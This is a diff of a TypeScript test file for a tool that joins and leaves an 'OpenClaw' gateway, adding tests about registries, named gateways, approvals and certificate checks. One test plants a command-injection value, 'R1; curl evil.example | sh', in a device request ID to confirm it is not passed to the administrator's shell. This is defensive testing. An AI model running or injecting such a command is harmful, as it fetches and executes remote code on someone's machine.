@@ -28,7 +28,7 @@ interface Place {
   readonly calls: () => Promise<string>;
   readonly device: string;
   join(options?: Partial<JoinOptions>): Promise<void>;
-  leave(): Promise<boolean>;
+  leave(gateway?: string): Promise<boolean>;
 }
 
 /** Stands in for an OpenClaw on this host that has rules of its own. */
@@ -78,7 +78,7 @@ const test = base.extend<{ place: Place }>({
         const asked = { gateway: gateway.url, codeFile, hostName: 'wa', interval: 10 };
         await joinGateway({ machine, guide, ...asked, ...options });
       },
-      leave: () => leaveGateway(machine, guide),
+      leave: (from) => leaveGateway(machine, guide, from),
     });
     await gateway.close();
     await folder.remove();
@@ -171,6 +171,39 @@ test('leaves nothing of it behind, and says what the administrator removes', asy
   expect(await place.leave()).toBe(false);
 });
 
+test('takes nothing back that somebody else has written', async ({ place }) => {
+  const { machine } = place;
+  const own = { host: { name: 'mine' }, delivery: { transport: 'cli' as const } };
+  await createRegistry(machine.registryPath, { agents: [{ agent_id: 'warden' }], ...own });
+  expect(await place.leave()).toBe(false);
+  expect((await readRegistry(machine.registryPath)).registry).toMatchObject(own);
+});
+
+test('leaves no other gateway than the one that is named', async ({ place }) => {
+  await place.join();
+  await expect(place.leave('wss://gateway.example')).rejects.toThrow('this host has joined ws://');
+  expect(readDevice(place.device)?.token).toBeDefined();
+  expect(await place.leave(`${place.gateway.url}/`)).toBe(true);
+});
+
+test('rules of this host’s OpenClaw that cannot be read are not written over', async ({
+  place,
+}) => {
+  const home = place.machine.env.HOME ?? '';
+  const failing = openclaw.replace("get --json') echo", "get --json') echo '{}'; exit 1; echo");
+  await writeFile(join(home, 'bin', 'openclaw'), failing);
+  await place.join();
+  expect(existsSync(join(home, 'approvals'))).toBe(false);
+  expect(place.said()).toContain('exec approvals cannot be read');
+});
+
+test('a gateway puts no words into the administrator’s shell', async ({ place }) => {
+  place.gateway.devices.requestId = 'R1; curl evil.example | sh';
+  await expect(place.join({ timeout: 30 })).rejects.toThrow('nobody has approved');
+  expect(place.said()).toContain('openclaw devices approve');
+  expect(place.said()).not.toContain('curl');
+});
+
 test('a file of a device that is broken goes, too', async ({ place }) => {
   await place.join();
   await writeFile(place.device, '{');
@@ -203,6 +236,16 @@ test('takes only the certificate that was named, or that a person has seen', asy
     server.close();
     server.closeAllConnections();
   }
+});
+
+test('a certificate that is named is looked at, also by a host that has joined', async ({
+  place,
+}) => {
+  const fingerprint = Array(32).fill('00').join(':');
+  await expect(place.join({ fingerprint })).rejects.toThrow('shows no certificate');
+  await place.join();
+  await expect(place.join({ fingerprint })).rejects.toThrow('shows no certificate');
+  expect(readDevice(place.device)?.token).toBeDefined();
 });
 
 test.for([
